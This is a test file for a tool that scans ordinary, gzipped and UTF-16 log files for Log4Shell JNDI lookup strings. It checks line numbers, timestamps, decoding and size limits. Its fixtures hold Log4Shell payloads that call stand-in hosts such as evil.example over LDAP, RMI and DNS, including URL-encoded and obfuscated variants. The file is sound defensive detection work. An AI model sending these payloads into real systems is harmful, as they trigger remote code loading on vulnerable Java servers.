import { mkdtempSync, rmSync, utimesSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { hunt, type HuntError, type HuntHit, type HuntOptions } from '../src';

let dir: string;
const at = (...p: string[]): string => path.join(dir, ...p);

async function run(options: Partial<HuntOptions> & { paths: string[] }) {
  const hits: HuntHit[] = [];
  const errors: HuntError[] = [];
  const summary = await hunt(options, { hit: (h) => hits.push(h), error: (e) => errors.push(e) });
  return { hits, errors, summary };
}

const ATTACK = '${jndi:ldap://evil.example:1389/a}';
const LOG4J_LINE = (ts: string, msg: string): string =>
  `${ts} INFO  [http-nio-8080-exec-1] c.e.Login - user=${msg}`;

beforeAll(() => {
  dir = mkdtempSync(path.join(tmpdir(), 'hunt-files-'));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('hunt over files', () => {
  it('reports file, line number, own timestamp, raw and decoded text', async () => {
    writeFileSync(
      at('app.log'),
      [
        LOG4J_LINE('2021-12-10 10:00:00,000', 'alice'),
        LOG4J_LINE(
          '2021-12-10 10:00:01,000',
          '%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%3A1389%2Fa%7D',
        ),
        'plain line $5 {x}',
      ].join('\r\n') + '\r\n',
    );
    const { hits, errors, summary } = await run({ paths: [at('app.log')] });
    expect(errors).toEqual([]);
    expect(hits).toHaveLength(1);
    expect(hits[0]).toMatchObject({
      kind: 'jndi',
      file: at('app.log'),
      line: 2,
      timestampText: '2021-12-10 10:00:01,000',
      timestamp: new Date(2021, 11, 10, 10, 0, 1).toISOString(),
      decoded: ATTACK,
      raw: LOG4J_LINE(
        '2021-12-10 10:00:01,000',
        '%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%3A1389%2Fa%7D',
      ),
      target: { protocol: 'ldap', host: 'evil.example', port: 1389, path: '/a' },
    });
    expect(summary).toMatchObject({ files: 1, lines: 3, hits: 1, errors: 0 });
  });

  it('reads empty and one-byte files', async () => {
    writeFileSync(at('empty.log'), '');
    writeFileSync(at('one.log'), 'x');
    const { hits, errors, summary } = await run({ paths: [at('empty.log'), at('one.log')] });
    expect({ hits, errors }).toEqual({ hits: [], errors: [] });
    expect(summary).toMatchObject({ files: 2, lines: 1 });
  });

  it('counts lines exactly across chunk boundaries of a multi-megabyte log', async () => {
    const lines: string[] = [];
    const expected: number[] = [];
    for (let i = 1; i <= 60_000; i++) {
      if (i % 7919 === 0) {
        lines.push(`2021-12-10T10:00:00Z GET /?x=${ATTACK} line ${i}`);
        expected.push(i);
      } else lines.push(`2021-12-10T10:00:00Z GET /index.html?page=${i} 200 ${'x'.repeat(i % 97)}`);
    }
    writeFileSync(at('big.log'), lines.join('\n')); // no final newline
    const { hits, summary } = await run({ paths: [at('big.log')] });
    expect(hits.map((h) => h.line)).toEqual(expected);
    expect(summary.lines).toBe(60_000);
    expect(summary.bytes).toBeGreaterThan(3 * 1024 * 1024);
  });

  it('reads rotated gzip logs, concatenated members included, and names the .gz', async () => {
    mkdirSync(at('rotated'));
    const a = gzipSync(Buffer.from('2021-12-11 01:00:00,000 ok\n'));
    const b = gzipSync(
      Buffer.from(`2021-12-11 01:00:01,000 ua=\${\${::-j}ndi:rmi://gz.example/x}\n`),
    );
    writeFileSync(at('rotated', 'app.log.1.gz'), Buffer.concat([a, b]));
    writeFileSync(
      at('rotated', 'app.log-20211211'),
      gzipSync(Buffer.from(`x\n\${jndi:dns://renamed.example/q}\n`)),
    );
    const { hits, errors } = await run({ paths: [at('rotated')] });
    expect(errors).toEqual([]);
    expect(hits.map((h) => [path.basename(h.file), h.line, h.target?.host])).toEqual([
      ['app.log-20211211', 2, 'renamed.example'],
      ['app.log.1.gz', 2, 'gz.example'],
    ]);
  });

  it('stops a compressed log at the decompression bound with an error, keeping hits before it', async () => {
    const body = `\${jndi:ldap://early.example/a}\n${'A'.repeat(4 * 1024 * 1024)}\n\${jndi:ldap://late.example/a}\n`;
    writeFileSync(at('bomb.gz'), gzipSync(Buffer.from(body)));
    const { hits, errors } = await run({
      paths: [at('bomb.gz')],
      limits: { maxDecompressedBytes: 1024 * 1024 },
    });
    expect(hits.map((h) => h.target?.host)).toEqual(['early.example']);
    expect(errors).toEqual([
      expect.objectContaining({ path: at('bomb.gz'), code: 'decompressed-too-large' }),
    ]);
  });

  it('names a truncated gzip and an unsupported compression as errors', async () => {
    writeFileSync(at('cut.gz'), gzipSync(Buffer.from(`${ATTACK}\n`.repeat(1000))).subarray(0, 60));
    writeFileSync(at('old.log.xz'), Buffer.from([0xfd, 0x37, 0x7a, 0x58, 0x5a, 0x00, 1, 2, 3]));
    const { errors } = await run({ paths: [at('cut.gz'), at('old.log.xz'), at('missing.log')] });
    expect(errors.map((e) => [path.basename(e.path), e.code])).toEqual([
      ['cut.gz', 'corrupt-compressed'],
      ['old.log.xz', 'unsupported-compression'],
      ['missing.log', 'not-found'],
    ]);
  });

  it('reads UTF-16 logs (with and without BOM) and skips binary files', async () => {
    mkdirSync(at('enc'));
    const text = `2021-12-10 10:00:00 événement \${jndi:ldap://utf16.example/a}\r\n`;
    writeFileSync(
      at('enc', 'win-bom.log'),
      Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]),
    );
    writeFileSync(at('enc', 'win-nobom.log'), Buffer.from(text.repeat(3), 'utf16le'));
    writeFileSync(
      at('enc', 'wtmp'),
      Buffer.concat([Buffer.alloc(384), Buffer.from(ATTACK), Buffer.alloc(384)]),
    );
    const { hits, summary } = await run({ paths: [at('enc')] });
    expect(hits.map((h) => [path.basename(h.file), h.line, h.target?.host])).toEqual([
      ['win-bom.log', 1, 'utf16.example'],
      ['win-nobom.log', 1, 'utf16.example'],
      ['win-nobom.log', 2, 'utf16.example'],
      ['win-nobom.log', 3, 'utf16.example'],
    ]);
    expect(summary.filesSkippedBinary).toBe(1);
  });

  it('finds a string at the end of a line longer than the line cap, in bounded windows', async () => {
    const long = 'x'.repeat(300_000) + ATTACK + 'y'.repeat(10);
    writeFileSync(at('long.log'), `first\n${long}\nlast \${jndi:rmi://after.example/b}\n`);
    const { hits } = await run({ paths: [at('long.log')], limits: { maxLineBytes: 64 * 1024 } });
    expect(hits.map((h) => [h.line, h.target?.host, h.rawTruncated])).toEqual([
      [2, 'evil.example', true],
      [3, 'after.example', false],
    ]);
    expect(hits[0].raw.length).toBeLessThanOrEqual(4096);
  });

  it('reports a string in the overlap of two windows of a long line once', async () => {
    // A line longer than the cap is analysed chunk by chunk (1 MiB), each window keeping the
    // last 8 KiB of the one before: a string in those 8 KiB is seen by both windows.
    const long = 'x'.repeat(1024 * 1024 - 4000) + ATTACK + 'y'.repeat(200_000);
    writeFileSync(at('overlap.log'), `${long}\nnext\n`);
    const { hits, summary } = await run({
      paths: [at('overlap.log')],
      limits: { maxLineBytes: 64 * 1024 },
    });
    expect(hits.map((h) => [h.line, h.target?.host, h.rawTruncated])).toEqual([
      [1, 'evil.example', true],
    ]);
    expect(summary.lines).toBe(2);
  });

  it('--since: skips files last written before it, lines stamped before it, and stack lines under them', async () => {
    mkdirSync(at('since'));
    writeFileSync(
      at('since', 'app.log'),
      [
        LOG4J_LINE('2021-11-30 23:59:59,000', ATTACK),
        '\tat org.apache.logging.log4j.core.lookup.JndiLookup.lookup(JndiLookup.java:56)',
        LOG4J_LINE('2021-12-02 00:00:00,000', '${jndi:ldap://after.example/a}'),
        '\tat org.apache.logging.log4j.core.lookup.JndiLookup.lookup(JndiLookup.java:56)',
      ].join('\n'),
    );
    writeFileSync(at('since', 'old.log'), `${ATTACK}\n`);
    utimesSync(at('since', 'old.log'), new Date('2021-11-01'), new Date('2021-11-01'));
    const sinceMs = new Date(2021, 11, 1).getTime();
    const { hits, summary } = await run({ paths: [at('since')], sinceMs });
    expect(hits.map((h) => [path.basename(h.file), h.line, h.kind])).toEqual([
      ['app.log', 3, 'jndi'],
      ['app.log', 4, 'trace'],
    ]);
    expect(summary.filesSkippedOld).toBe(1);
  });
});
